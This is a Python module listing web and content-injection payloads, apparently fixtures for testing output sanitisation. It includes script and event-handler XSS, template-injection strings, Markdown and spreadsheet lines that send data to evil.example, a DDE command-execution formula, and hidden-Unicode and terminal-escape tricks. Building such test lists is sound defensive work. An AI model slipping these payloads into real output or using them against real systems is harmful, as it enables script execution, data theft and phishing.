"""Texts that would do something wherever they were taken for more than text."""

from __future__ import annotations

HIT = "window.hit=1"
PAYLOADS = (
    # scripts and elements
    f"<script>{HIT}</script>",
    f"<ScRiPt\n>{HIT}</sCrIpT\t>",
    "<script src=//evil.example/x.js></script>",
    f"</script><script>{HIT}//",
    f"<img src=x onerror={HIT}>",
    "<img/src='http://evil.example/pixel.png'>",
    f'"><svg onload={HIT}>',
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={HIT}>#x'/></svg>",
    f"<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror={HIT}></style></mtext></svg></math>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src='http://evil.example/'></iframe>",
    "<object data='data:text/html,<script>opener.hit=1</script>'></object>",
    "<embed src='http://evil.example/x.swf'>",
    f"<details open ontoggle={HIT}>",
    f"<body onload={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<template><img src=x onerror={HIT}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"</textarea></title></style></template><img src=x onerror={HIT}>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<form action='http://evil.example/'><button>Sign in again</button></form>",
    "<title>Another title</title>",
    "<!-- <b> --> ]]> <![CDATA[ &lt;script&gt; &#x3C;script&#x3E;",
    # attributes and links
    f"' onmouseover='{HIT}' autofocus onfocus='{HIT}' x='",
    f'" style="position:fixed;inset:0" onmouseover="{HIT}',
    f"<a href='javascript:{HIT}'>read on</a>",
    f"<a href='java\tscript:{HIT}'>read on</a>",
    f"javascript:{HIT}//",
    f"data:text/html,<script>{HIT}</script>",
    "<a href='http://evil.example/' target=_blank ping='http://evil.example/'>read on</a>",
    # styles
    "<style>body{display:none}</style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "</style><style>*{background:url(http://evil.example/x)}</style>",
    # templates
    f"${{{HIT}}}",
    "`${alert(1)}`",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    "{{#with this}}{{lookup this 'constructor'}}{{/with}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    # Markdown
    "![pixel](http://evil.example/pixel.png)",
    f"[read on](javascript:{HIT})",
    "[^check1]: ✓ supported [1]: http://evil.example/",
    "<http://evil.example/> [![x](http://evil.example/x)](http://evil.example/)",
    # what hides or reorders
    "\u202egnp.exe\u2066 zero\u200bwidth\u2060 \u0000 \ud800 \ufeff",
    "paid\u202c\u202d 000,1\u2069\u200f not\u00ad \U000e0041\U000e0042",
    # terminals and spreadsheets
    "\x1b]8;;http://evil.example\x07read on\x1b]8;;\x07 \x1b[2J\x1b[31m \x9b31m",
    '=HYPERLINK("http://evil.example/"&A1,"read on")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1\r\n-2+3\t=1",
)
